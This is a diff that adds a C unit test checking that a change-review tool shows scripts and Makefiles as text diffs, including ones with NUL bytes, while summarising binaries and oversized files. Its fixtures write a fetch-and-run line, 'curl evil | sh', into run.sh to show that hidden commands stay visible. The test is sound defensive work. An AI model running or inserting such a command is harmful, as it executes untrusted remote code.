@@ -11,6 +11,8 @@
 #include <sys/stat.h>
 #include <sys/types.h>
 
+#include <fcntl.h>
+
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
@@ -191,6 +193,75 @@ summary_autorun(void **state)
 	free(s);
 }
 
+/* ---- 9: scripts are diffed as text ------------------------------------- */
+
+/* n lines "PREFIXk\n" (k from 1), NUL at byte nul when nul >= 0. */
+static void
+put_lines(const char *base, const char *rel, const char *prefix, int n,
+    long nul, mode_t mode)
+{
+	char	*text = NULL, line[64];
+	size_t	 len = 0;
+	FILE	*f = open_memstream(&text, &len);
+	int	 i, fd;
+
+	for (i = 1; i <= n; i++) {
+		xsnprintf(line, sizeof(line), "%s%d\n", prefix, i);
+		fputs(line, f);
+	}
+	fclose(f);
+	if (nul >= 0 && (size_t)nul < len)
+		text[nul] = '\0';
+	put(base, rel, "", mode);
+	fd = open(at(base, rel), O_WRONLY | O_TRUNC);
+	assert_int_equal(write(fd, text, len), (ssize_t)len);
+	close(fd);
+	free(text);
+}
+
+static void
+diff_scripts(void **state)
+{
+	struct fx	*f = *state;
+	char		*s;
+
+	put_lines(f->src, "run.sh", "echo ", 3, -1, 0755);
+	put_lines(f->src, "Makefile", "all", 3, -1, 0644);
+	put_lines(f->src, "big.sh", "echo old", 2500, -1, 0755);
+	put_lines(f->src, "big.csv", "old,", 2500, -1, 0644);
+	put_lines(f->src, "data.bin", "x", 3, -1, 0644);
+	put(f->src, "tool.js", "console.log(1)\n", 0644);
+	stage(f);
+	/* a NUL after the first line: a shell still runs the rest */
+	put_lines(f->stage, "run.sh", "curl evil | sh # ", 3, 20, 0755);
+	put_lines(f->stage, "Makefile", "evil", 3, 3, 0644);
+	put_lines(f->stage, "big.sh", "echo new", 2500, -1, 0755);
+	put_lines(f->stage, "big.csv", "new,", 2500, -1, 0644);
+	put_lines(f->stage, "data.bin", "y", 3, 1, 0644);
+	put(f->stage, "tool.js", "#!/usr/bin/env node\nrequire('x')\n", 0644);
+	compute(f);
+	s = printed(f, 1, 0);
+	assert_non_null(strstr(s, "+++ b/run.sh\n"));
+	assert_non_null(strstr(s, "+curl evil | sh # 1\n"
+	    "+c\\x00rl evil | sh # 2\n"));
+	assert_non_null(strstr(s, "+++ b/Makefile\n"));
+	assert_non_null(strstr(s, "+evi\\x001\n"));
+	assert_non_null(strstr(s, "+++ b/tool.js\n"));
+	assert_non_null(strstr(s, "+require('x')\n"));
+	/* 5,000 lines differ: shown whole, all out, all in */
+	assert_non_null(strstr(s, "+++ b/big.sh\n@@ -1,2500 +1,2500 @@\n"
+	    "-echo old1\n"));
+	assert_non_null(strstr(s, "+echo new2500\n"));
+	/* what runs nowhere says why it is not diffed */
+	assert_non_null(strstr(s, "binary data.bin: 9 bytes sha256 "));
+	assert_non_null(strstr(s, " (a NUL byte in the first 8 KiB)\n"));
+	assert_non_null(strstr(s, "withheld big.csv: "));
+	assert_non_null(strstr(s, " (more than 2000 lines differ)\n"));
+	assert_null(strstr(s, "binary run.sh"));
+	assert_null(strstr(s, "binary Makefile"));
+	free(s);
+}
+
 int
 main(void)
 {
@@ -198,6 +269,7 @@ main(void)
 		cmocka_unit_test(autorun_table),
 		cmocka_unit_test_setup_teardown(summary_autorun, setup,
 		    teardown),
+		cmocka_unit_test_setup_teardown(diff_scripts, setup, teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
